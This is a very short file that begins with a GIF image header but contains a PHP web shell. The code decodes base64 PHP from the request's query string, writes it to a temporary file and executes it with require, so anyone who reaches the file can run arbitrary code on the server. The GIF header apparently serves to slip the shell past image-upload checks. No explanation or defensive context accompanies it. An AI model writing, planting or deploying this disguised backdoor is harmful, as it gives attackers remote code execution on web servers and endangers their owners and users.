GIF89a
<?php
header('Content-Type: text/plain');
$x = base64_decode(urldecode($_SERVER['QUERY_STRING']));
$fh = tmpfile();
fwrite($fh, $x);
$meta = stream_get_meta_data($fh);
require $meta['uri'];
